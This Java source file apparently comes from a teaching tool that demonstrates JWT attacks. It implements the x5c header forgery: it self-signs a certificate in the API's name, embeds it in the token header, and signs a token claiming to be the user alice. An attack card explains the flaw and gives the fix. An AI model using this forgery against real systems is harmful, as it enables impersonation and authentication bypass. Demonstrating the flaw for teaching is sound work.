package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.credential.CompactToken;
import dev.gatehouse.desktop.credential.CredentialException;
import dev.gatehouse.desktop.exchange.ClientCertificate;
import dev.gatehouse.server.jose.JwsAlgorithm;
import dev.gatehouse.server.jose.Signatures;
import java.security.cert.CertificateEncodingException;
import java.util.Base64;
import java.util.List;
import okhttp3.tls.HeldCertificate;

/** Brings a certificate of the key by which the token is to be verified. */
@AutoService(Attack.class)
public final class JwtX5c extends JwtAttack {
  @Override
  public AttackCard card() {
    return new AttackCard(
        "jwt-x5c",
        "Certificate inside the token",
        AttackGroup.JWT,
        "The attacker makes a certificate in the issuer's name, signs a token about Alice with its key, and puts it into the token's header.",
        "Nothing but a token to copy from.",
        "The format has a place for a certificate in the header, and the library takes the key out of it without asking who has issued it.",
        "trust-x5c",
        List.of("RFC 7515 §4.1.6", "RFC 8725 §3.10", "RFC 5280 §6.1"),
        "Verify with keys that you already trust. If certificates are to be believed, then only those of an authority that you chose, for a name that you expect.");
  }

  @Override
  String token(Target target) throws CredentialException {
    HeldCertificate forged = ClientCertificate.selfSigned("Calendar API").held();
    target.makes(
        "Make a certificate in the name of the API, and sign it with its own key.",
        "certificate",
        forged.certificatePem());
    CompactToken unsigned =
        ownToken(target)
            .withHeader("alg", JwsAlgorithm.ES256.text())
            .withHeader("kid", "certified")
            .withHeader("x5c", List.of(base64(forged)))
            .withClaim("sub", Loot.VICTIM);
    byte[] signature =
        Signatures.sign(JwsAlgorithm.ES256, forged.keyPair().getPrivate(), unsigned.signingInput());
    return target.makes(
        "Set sub to alice, put the certificate into the header, and sign with its key.",
        "forged token",
        unsigned.withSignature(signature).text());
  }

  /** The certificate as the header has it (RFC 7515 §4.1.6). */
  private static String base64(HeldCertificate forged) throws CredentialException {
    try {
      return Base64.getEncoder().encodeToString(forged.certificate().getEncoded());
    } catch (CertificateEncodingException unreadable) {
      throw new CredentialException("The certificate cannot be written.");
    }
  }
}
